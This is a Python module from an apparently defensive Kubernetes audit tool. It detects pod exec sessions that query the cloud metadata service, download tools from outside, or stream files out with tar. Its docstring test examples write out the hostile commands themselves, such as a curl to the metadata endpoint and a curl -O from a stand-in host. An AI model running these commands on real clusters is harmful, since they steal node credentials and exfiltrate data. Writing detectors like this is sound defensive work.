"""Indicator 2: abnormal outbound traffic. Of the audit log: what is fetched, sent and asked for in sessions."""

from __future__ import annotations

from iocaudit.core.severity import IoC, Severity
from iocaudit.knowledge.clipping import clip
from iocaudit.signals.audit_event import AuditEvent
from iocaudit.signals.commands import asks_metadata, copies_out, fetches_from_outside, sends_out
from iocaudit.signals.indicators.declaration import Indicator, Observation
from iocaudit.signals.session import session_of
from iocaudit.signals.wording import what, who

INDICATOR = Indicator(
    IoC.OUTBOUND_TRAFFIC,
    "outbound-traffic",
    "Files that leave by a session, downloads in pods, the metadata service of a cloud; from Falco, connections that "
    "are not expected; from metrics, traffic beyond a workload's baseline.",
    "The traffic itself: the API server does not see it. Falco, a network plugin or metrics have to report it.",
)
_EXEC = ("pods/exec",)


def opened(event: AuditEvent) -> tuple[str, ...]:
    """The command of a session that was opened; empty where it was refused."""
    return session_of(event).command if event.went_on else ()


@INDICATOR.detects(
    "metadata-asked-in-session",
    severity=Severity.HIGH,
    technique="T1552.005",
    on=_EXEC,
    related=("metadata-service-reachable", "no-egress-policy"),
)
def metadata_asked_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod asks the metadata service of the cloud.

    It answers with credentials of the node to anyone who can reach it. By whatever notation the address is written.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=curl&command=http%3A%2F%2Flocalhost%3A8080%2Fhealthz&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1552.005, Cloud Instance Metadata API.
    """
    command = opened(event)
    if not asks_metadata(command):
        return None
    return Observation(f"{who(event)} asks the metadata service in {what(event)}: {clip(' '.join(command))}")


@INDICATOR.detects(
    "download-in-session",
    severity=Severity.MEDIUM,
    technique="T1105",
    on=_EXEC,
    related=("no-egress-policy", "exec-permission", "writable-root-filesystem"),
)
def download_in_session(event: AuditEvent) -> Observation | None:
    """A command in a pod loads something from outside.

    Applications bring what they need in their image. Tools that are fetched into a running pod are how an intruder makes
    himself at home. Requests to the pod itself, to Services and to the API server are left out.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=curl&command=-O&command=https%3A%2F%2Ffiles.example.com%2Ftool&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: web}
        requestURI: /api/v1/namespaces/shop/pods/web/exec?command=curl&command=https%3A%2F%2Fapi.shop.svc%2Fready&stdout=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1105, Ingress Tool Transfer.
    """
    command = opened(event)
    if not fetches_from_outside(command) or asks_metadata(command):
        return None
    return Observation(f"{who(event)} loads from outside in {what(event)}: {clip(' '.join(command))}")


@INDICATOR.detects(
    "files-taken-out",
    severity=Severity.MEDIUM,
    technique="T1048",
    on=_EXEC,
    related=("exec-permission", "no-egress-policy"),
)
def files_taken_out(event: AuditEvent) -> Observation | None:
    """Files leave a pod by a session.

    `kubectl cp` runs tar in the pod and takes what it writes through the API server, past every NetworkPolicy; other
    commands send files to a store of the attacker's.

    Fires:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: db}
        requestURI: /api/v1/namespaces/shop/pods/db/exec?command=tar&command=cf&command=-&command=%2Fvar%2Flib%2Fdata&stdout=true
        responseStatus: {code: 101}

    Quiet:

        verb: create
        user: {username: alice}
        objectRef: {resource: pods, subresource: exec, namespace: shop, name: db}
        requestURI: /api/v1/namespaces/shop/pods/db/exec?command=tar&command=-xmf&command=-&command=-C&command=%2Ftmp&stdin=true
        responseStatus: {code: 101}

    Sources: MITRE ATT&CK T1048, Exfiltration Over Alternative Protocol; kubernetes/kubectl, pkg/cmd/cp.
    """
    command = opened(event)
    if not (copies_out(command) or sends_out(command)):
        return None
    return Observation(f"{who(event)} takes files out of {what(event)}: {clip(' '.join(command))}")
